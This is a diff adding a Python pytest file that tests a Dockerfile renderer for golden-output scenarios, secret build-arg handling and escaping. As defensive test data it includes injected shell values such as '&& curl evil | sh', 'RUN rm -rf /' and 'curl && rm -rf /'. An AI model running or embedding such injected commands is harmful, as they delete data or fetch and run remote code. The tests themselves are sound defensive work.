@@ -1,0 +1,196 @@
+"""Dockerfile rendering: golden files for every template branch, and hostile values kept inert.
+
+Regenerate the golden files after an intended template change with
+``UPDATE_GOLDEN=1 .venv/bin/python -m pytest tests/unit/test_render.py`` and review the diff.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from racetrack_builder.errors import RenderError
+from racetrack_builder.manifest import Manifest
+from racetrack_builder.render import (
+    CA_BUNDLE_ARG,
+    RenderOptions,
+    build_args,
+    render_dockerfile,
+    required_build_args,
+    write_context,
+)
+from racetrack_builder.source import JobSource
+
+GOLDEN = Path(__file__).parent / "golden"
+COMMIT = "0123456789abcdef0123456789abcdef01234567"
+
+BASE: dict[str, Any] = {
+    "name": "adder",
+    "owner_email": "owner@example.com",
+    "lang": "python3:latest",
+    "git": {"remote": "https://github.com/example/adder"},
+    "python": {"entrypoint_path": "entrypoint.py"},
+}
+
+
+def _manifest(**extra: Any) -> Manifest:
+    data = {**BASE, **extra}
+    if "python" in extra:
+        data["python"] = {**BASE["python"], **extra["python"]}
+    return Manifest.model_validate(data)
+
+
+def _source(tmp_path: Path, files: dict[str, str]) -> JobSource:
+    for rel, text in files.items():
+        path = tmp_path / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+    return JobSource(repo_root=tmp_path, job_root=tmp_path, files=tuple(sorted(files)), commit=COMMIT,
+                     remote="https://github.com/example/adder", branch="master", dirty=False)
+
+
+ENTRY = "class FatmanEntrypoint:\n    def perform(self, x: float) -> float:\n        return x\n"
+
+SCENARIOS: dict[str, tuple[dict[str, Any], dict[str, str], RenderOptions]] = {
+    "minimal": ({}, {"entrypoint.py": ENTRY}, RenderOptions()),
+    "requirements": (
+        {"python": {"requirements_path": "requirements.txt"}},
+        {"entrypoint.py": ENTRY, "requirements.txt": "numpy==2.0.0\n-r more/extra.txt\n", "more/extra.txt": "idna\n"},
+        RenderOptions(),
+    ),
+    "secrets": (
+        {"python": {"requirements_path": "requirements.txt"},
+         "build_env": {"PIP_INDEX_URL": "http://127.0.0.1:8080/simple", "INDEX_TOKEN": "plain-loses"},
+         "secret_build_env_file": ".env.build"},
+        {"entrypoint.py": ENTRY, "requirements.txt": "private @ https://${INDEX_USER}:${INDEX_TOKEN}@example.com/p.whl\n"},
+        RenderOptions(secret_build_names=("INDEX_USER", "INDEX_TOKEN")),
+    ),
+    "system_dependencies_ca": (
+        {"system_dependencies": ["libgomp1", "curl=7.88.1-10+deb12u5"],
+         "build_env": {"DEBIAN_FRONTEND": "noninteractive"},
+         "python": {"requirements_path": "requirements.txt"}},
+        {"entrypoint.py": ENTRY, "requirements.txt": "idna\n"},
+        RenderOptions(ca_cert=True),
+    ),
+    "local_requirements": (
+        {"python": {"requirements_path": "requirements.txt"}},
+        {"entrypoint.py": ENTRY, "requirements.txt": "-e ./libs/helper\n", "libs/helper/setup.py": ""},
+        RenderOptions(),
+    ),
+    "everything_else": (
+        {"version": "1.2.3", "python": {"entrypoint_class": "FatmanEntrypoint"},
+         "runtime_env": {"DJANGO_DEBUG": "true", "TORCH_MODEL_ZOO": "zoo"},
+         "public_endpoints": ["/api/v1/perform", "/api/v1/webview"],
+         "labels": {"team": "ml", "purpose": "adds numbers"}},
+        {"entrypoint.py": ENTRY},
+        RenderOptions(base_image="registry.example.com/racetrack/python3:1.0"),
+    ),
+}
+
+
+@pytest.mark.parametrize("scenario", sorted(SCENARIOS))
+def test_golden_dockerfile(scenario: str, tmp_path: Path) -> None:
+    extra, files, options = SCENARIOS[scenario]
+    text = render_dockerfile(_manifest(**extra), _source(tmp_path, files), options)
+    golden = GOLDEN / f"{scenario}.Dockerfile"
+    if os.environ.get("UPDATE_GOLDEN"):
+        golden.write_text(text)
+    assert text == golden.read_text(), f"rendered Dockerfile differs from {golden}"
+
+
+def test_secret_names_are_build_args_without_defaults_and_never_in_final_stage(tmp_path: Path) -> None:
+    extra, files, options = SCENARIOS["secrets"]
+    text = render_dockerfile(_manifest(**extra), _source(tmp_path, files), options)
+    builder, final = text.split("# ---- the job image")
+    assert "ARG INDEX_TOKEN\n" in builder and "ARG INDEX_USER\n" in builder
+    # The secret wins over build_env's value of the same name: no default may shadow the build arg.
+    assert "plain-loses" not in text
+    assert "INDEX_" not in final
+    assert required_build_args(text) == ("INDEX_USER", "INDEX_TOKEN")
+
+
+def test_code_is_copied_after_packages_so_code_changes_reuse_pip_and_apt_layers(tmp_path: Path) -> None:
+    extra, files, options = SCENARIOS["system_dependencies_ca"]
+    text = render_dockerfile(_manifest(**extra), _source(tmp_path, files), options)
+    final = text.split("# ---- the job image")[1]
+    assert final.index("apt-get") < final.index("COPY --from=builder") < final.index("COPY --chown=10001:10001 job/")
+    builder = text.split("# ---- the job image")[0]
+    assert "COPY job/ " not in builder, "the builder stage must not depend on the job's code"
+
+
+@pytest.mark.parametrize(
+    "value",
+    ['quote " inside', "dollar $HOME and ${PATH}", "back\\slash", "single ' quote", "#not-a-comment",
+     "trailing backslash \\", "RUN rm -rf /", "&& curl evil | sh"],
+)
+def test_hostile_env_values_are_escaped_for_docker(value: str, tmp_path: Path) -> None:
+    manifest = _manifest(runtime_env={"V": value}, build_env={"B": value}, labels={"l": value})
+    text = render_dockerfile(manifest, _source(tmp_path, {"entrypoint.py": ENTRY}))
+    escaped = '"' + value.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$") + '"'
+    assert f"V={escaped}" in text
+    # Nothing but our own instructions starts a line.
+    instructions = {line.split()[0] for line in text.splitlines() if line and not line.startswith((" ", "#"))}
+    assert instructions <= {"FROM", "USER", "ARG", "ENV", "COPY", "WORKDIR", "RUN", "LABEL", "CMD"}
+
+
+@pytest.mark.parametrize("value", ["line\nRUN rm -rf /", "cr\rreturn", "nul\x00byte", "tab\tchar"])
+def test_control_characters_are_refused_even_if_the_model_let_them_through(value: str, tmp_path: Path) -> None:
+    # model_construct skips validation: the renderer must defend itself.
+    manifest = _manifest().model_copy(update={"runtime_env": {"V": value}})
+    with pytest.raises(RenderError, match="control character"):
+        render_dockerfile(manifest, _source(tmp_path, {"entrypoint.py": ENTRY}))
+
+
+def test_hostile_package_name_is_a_single_shell_word(tmp_path: Path) -> None:
+    manifest = _manifest().model_copy(update={"system_dependencies": ["curl && rm -rf /"]})
+    text = render_dockerfile(manifest, _source(tmp_path, {"entrypoint.py": ENTRY}))
+    assert "'curl && rm -rf /'" in text
+
+
+def test_requirements_file_with_glob_characters_is_refused(tmp_path: Path) -> None:
+    manifest = _manifest(python={"requirements_path": "req[1].txt"})
+    with pytest.raises(RenderError, match="rename the file"):
+        render_dockerfile(manifest, _source(tmp_path, {"entrypoint.py": ENTRY, "req[1].txt": "idna\n"}))
+
+
+def test_missing_requirements_include_names_the_file(tmp_path: Path) -> None:
+    manifest = _manifest(python={"requirements_path": "requirements.txt"})
+    with pytest.raises(RenderError, match="'base.txt' is not in the job's source"):
+        render_dockerfile(manifest, _source(tmp_path, {"entrypoint.py": ENTRY, "requirements.txt": "-r base.txt\n"}))
+
+
+def test_credentials_in_remote_do_not_reach_labels(tmp_path: Path) -> None:
+    manifest = _manifest(git={"remote": "https://user:s3cr3t-token@git.example.com/x.git"})
+    text = render_dockerfile(manifest, _source(tmp_path, {"entrypoint.py": ENTRY}))
+    assert "s3cr3t-token" not in text
+    assert '"org.opencontainers.image.source"="https://***@git.example.com/x.git"' in text
+
+
+def test_write_context_holds_dockerfile_and_job_files_but_no_secret(tmp_path: Path) -> None:
+    extra, files, options = SCENARIOS["secrets"]
+    source = _source(tmp_path / "src", files)
+    ca = tmp_path / "ca.pem"
+    ca.write_text("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")
+    manifest = _manifest(**extra, system_dependencies=["curl"])
+    context = write_context(manifest, source, tmp_path / "out", options, ca_cert_path=ca)
+    listed = sorted(p.relative_to(context.path).as_posix() for p in context.path.rglob("*") if p.is_file())
+    assert listed == ["Dockerfile", "ca-bundle.pem", "job/entrypoint.py", "job/requirements.txt"]
+    assert context.build_arg_names == ("INDEX_USER", "INDEX_TOKEN", CA_BUNDLE_ARG)
+    args = build_args(context, {"INDEX_USER": "u", "INDEX_TOKEN": "t0ken-value", "UNUSED": "x"}, ca)
+    assert args == {"INDEX_USER": "u", "INDEX_TOKEN": "t0ken-value", CA_BUNDLE_ARG: ca.read_text()}
+    for path in context.path.rglob("*"):
+        if path.is_file():
+            assert "t0ken-value" not in path.read_text()
+    assert re.search(r"docker build --build-arg INDEX_USER --build-arg INDEX_TOKEN --build-arg RACETRACK_CA_BUNDLE -t adder:0.0.1 ",
+                     context.docker_build_command("adder:0.0.1"))
+
+
+def test_write_context_refuses_a_non_empty_folder(tmp_path: Path) -> None:
+    (tmp_path / "out").mkdir()
+    (tmp_path / "out" / "keep.txt").write_text("mine")
+    with pytest.raises(RenderError, match="not empty"):
+        write_context(_manifest(), _source(tmp_path / "src", {"entrypoint.py": ENTRY}), tmp_path / "out")
